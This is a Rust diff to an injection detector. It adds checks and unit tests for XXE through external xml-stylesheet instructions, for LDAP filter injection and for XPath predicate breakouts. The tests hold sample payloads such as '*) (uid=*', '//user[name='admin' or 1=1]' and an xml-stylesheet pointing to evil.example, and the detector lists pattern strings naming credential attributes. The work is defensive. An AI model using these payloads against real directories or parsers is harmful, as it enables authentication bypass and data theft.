@@ -206,6 +206,9 @@ pub fn xxe(n: &Normalized) -> bool {
     if ANYWHERE.found_in(s) {
         return true;
     }
+    if find(s, b"<?xml-stylesheet").is_some_and(|at| foreign_stylesheet(&s[at..])) {
+        return true;
+    }
     let mut from = 0;
     while let Some(p) = s.get(from..).and_then(|t| find(t, b"<!doctype")) {
         let at = from + p;
@@ -243,6 +246,20 @@ pub fn xxe(n: &Normalized) -> bool {
         }
     }
     false
+}
+
+/// An `<?xml-stylesheet href=..?>` of any type but CSS (`text/xsl`, none,
+/// `application/xslt+xml`, `text/xml`): a transformation the document asks
+/// its reader to fetch and run. RSS and Atom feeds style themselves with
+/// `type="text/css"`.
+fn foreign_stylesheet(pi: &[u8]) -> bool {
+    let end = pi
+        .iter()
+        .take(DECL_SPAN)
+        .position(|&b| b == b'>')
+        .unwrap_or(pi.len().min(DECL_SPAN));
+    let pi = &pi[..end];
+    find(pi, b"href").is_some() && find(pi, b"text/css").is_none()
 }
 
 /// A `PUBLIC` declaration whose system identifier (the second literal, the
@@ -283,13 +300,30 @@ pub fn ldap(n: &Normalized) -> bool {
         b")(!(",
         b")(&(",
         b")(|(",
+        // Directory attributes no other syntax writes after `(`.
+        b"(objectcategory=",
+        b"(samaccountname=",
+        b"(userpassword=",
+        b"(unicodepwd=",
+        b"(memberof=",
+        b"(useraccountcontrol",
     ]);
     if ALWAYS.found_in(s) {
         return true;
     }
-    const OPENERS: Needles = Needles::new(&[b")(", b"(|(", b"(&(", b"(!("]);
+    // `*) (`: a wildcard's filter closed and the next opened across a
+    // space, which lenient filter parsers skip (`*) (uid=*`); prose puts
+    // one parenthesis after another ("Shirt (blue) (size=L)").
+    const OPENERS: Needles = Needles::new(&[b")(", b"*) (", b"(|(", b"(&(", b"(!("]);
     if OPENERS.any_match(s, |open, p| filter_item(&s[p + open.len()..])) {
         return true;
+    }
+    // A value that opens with a filter operator or a nested filter
+    // (`!(uid=admin)`, `|(cn=x)`, `((uid=admin))`).
+    if let [b'!' | b'&' | b'|' | b'(', b'(', rest @ ..] = s {
+        if filter_item(rest) {
+            return true;
+        }
     }
     // `(uid=*)`: a presence filter on an attribute.
     find(s, b"=*)").is_some_and(|p| {
@@ -395,6 +429,24 @@ fn xpath(s: &[u8]) -> bool {
         })
     {
         return true;
+    }
+    // A number that goes on with `or`/`and` and an XPath function call
+    // (`1 or true()`, `0 and count(/*)=1`): a numeric predicate broken out.
+    let digits = s.iter().take_while(|b| b.is_ascii_digit()).count();
+    if digits > 0 {
+        let rest = &s[digits..];
+        let rest = rest
+            .strip_prefix(b" or ")
+            .or_else(|| rest.strip_prefix(b" and "));
+        if let Some(rest) = rest {
+            let name = rest
+                .iter()
+                .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
+                .count();
+            if rest.get(name) == Some(&b'(') && XPATH_FUNCTIONS.contains(&&rest[..name]) {
+                return true;
+            }
+        }
     }
     // The first quote of each kind: the one that would end the literal.
     for q in [b'\'', b'"'] {
@@ -1062,6 +1114,18 @@ mod tests {
             &xxe
         ));
         assert!(!run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", &xxe));
+        assert!(run(
+            "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>",
+            &xxe
+        ));
+        assert!(run(
+            "<?xml-stylesheet type=\"application/xslt+xml\" href=\"x.xsl\"?><a/>",
+            &xxe
+        ));
+        assert!(!run(
+            "<?xml-stylesheet type=\"text/css\" href=\"/feed.css\"?><rss/>",
+            &xxe
+        ));
         // A W3C public id in front of a DTD fetched from elsewhere.
         assert!(run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\"><html/>", &xxe));
         assert!(run(
@@ -1115,6 +1179,12 @@ mod tests {
             "//user[name='admin' or 1=1]",
             "/users/user[1]/password/text()",
             "/*[1]/*[2]",
+            "1 or true()",
+            "0 and count(/*)=1",
+            "*) (uid=*",
+            "!(uid=admin)",
+            "((uid=admin))",
+            "(objectCategory=person)",
         ] {
             assert!(run(p, &ldap), "{p}");
         }
@@ -1135,6 +1205,12 @@ mod tests {
             "/items[0]/name",
             "/api/v1/search(term)",
             "/docs/or and more[see notes]",
+            "call (555) (123-4567)",
+            "2 or 3 (not(sure))",
+            "1 or not sure",
+            "((a + b))",
+            "(see note) (size=large)",
+            "Shirt (blue) (size=L)",
             "/wiki/Category:Text",
         ] {
             assert!(!run(p, &ldap), "{p}");
